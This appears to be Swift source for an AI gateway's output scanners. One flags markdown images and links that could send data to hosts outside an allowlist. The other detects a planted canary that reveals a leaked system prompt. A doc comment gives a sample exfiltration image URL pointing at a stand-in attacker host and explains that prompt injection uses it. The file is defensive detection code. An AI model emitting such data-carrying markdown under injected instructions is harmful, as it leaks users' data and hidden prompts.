/// Markdown images and links that would make a chat interface send data to a host outside the
/// allowlist: `![…](https://evil.example/p?d=SECRET)` or a link whose URL carries a query or a
/// long path (the way an injected prompt makes a model exfiltrate what it saw).
public struct MarkdownExfilScanner: TextScanner {
    /// Hosts (and their subdomains) that images and links may point at.
    public let allowedHosts: [String]

    public init(allowedHosts: [String] = []) {
        self.allowedHosts = allowedHosts.map { $0.lowercased() }
    }

    public func scan(_ text: String) -> [Finding] {
        let bytes = Array(text.utf8)
        guard bytes.contains(UInt8(ascii: "]")) else { return [] }
        var findings: [Finding] = []
        var index = 0
        while index < bytes.count {
            // `](` ends a markdown label; find where the construct began (`![` or `[`).
            guard bytes[index] == UInt8(ascii: "]"), index + 1 < bytes.count, bytes[index + 1] == UInt8(ascii: "(")
            else {
                index += 1
                continue
            }
            var open = index
            while open > 0, bytes[open] != UInt8(ascii: "["), index - open < 1000 { open -= 1 }
            guard bytes[open] == UInt8(ascii: "[") else {
                index += 1
                continue
            }
            let isImage = open > 0 && bytes[open - 1] == UInt8(ascii: "!")
            let start = isImage ? open - 1 : open
            var close = index + 2
            while close < bytes.count, bytes[close] != UInt8(ascii: ")"), bytes[close] != UInt8(ascii: " "),
                close - index < 4000
            {
                close += 1
            }
            let url = String(decoding: bytes[(index + 2)..<close], as: UTF8.self)
            let end = close < bytes.count && bytes[close] == UInt8(ascii: ")") ? close + 1 : close
            if carriesData(url, isImage: isImage) { findings.append(Finding(.markdownImageExfil, start..<end)) }
            index = end
        }
        return findings
    }

    /// A URL to a host outside the allowlist that can carry data: any image (fetched without a
    /// click), or a link with a query, a fragment or a long path.
    func carriesData(_ url: String, isImage: Bool) -> Bool {
        let lowered = url.lowercased()
        guard lowered.hasPrefix("http://") || lowered.hasPrefix("https://") || lowered.hasPrefix("//") else {
            return false
        }
        let afterScheme = lowered.drop { $0 != "/" }.drop { $0 == "/" }
        let hostPort = afterScheme.prefix { $0 != "/" && $0 != "?" && $0 != "#" }
        let host =
            hostPort.split(separator: "@").last.map { $0.split(separator: ":").first.map(String.init) ?? "" } ?? ""
        guard !host.isEmpty else { return false }
        if allowedHosts.contains(where: { host == $0 || host.hasSuffix("." + $0) }) { return false }
        if isImage { return true }
        let rest = afterScheme.dropFirst(hostPort.count)
        return rest.contains("?") || rest.contains("#") || rest.count > 40
    }
}

/// The per-request canary the gateway planted in the system prompt, echoed in an answer
/// (the system prompt leaked).
public struct CanaryScanner: TextScanner {
    public let canary: String

    public init(canary: String) { self.canary = canary }

    public func scan(_ text: String) -> [Finding] {
        let needle = Array(canary.utf8)
        let bytes = Array(text.utf8)
        guard !needle.isEmpty, bytes.count >= needle.count else { return [] }
        var findings: [Finding] = []
        var index = 0
        while index + needle.count <= bytes.count {
            if bytes[index] == needle[0], bytes[index..<(index + needle.count)].elementsEqual(needle) {
                findings.append(Finding(.canary, index..<(index + needle.count)))
                index += needle.count
            } else {
                index += 1
            }
        }
        return findings
    }

    /// A fresh canary: a marker no model would write by chance.
    public static func make() -> String {
        var generator = SystemRandomNumberGenerator()
        return "gh-canary-" + String(generator.next() | (1 << 63), radix: 36)
    }
}
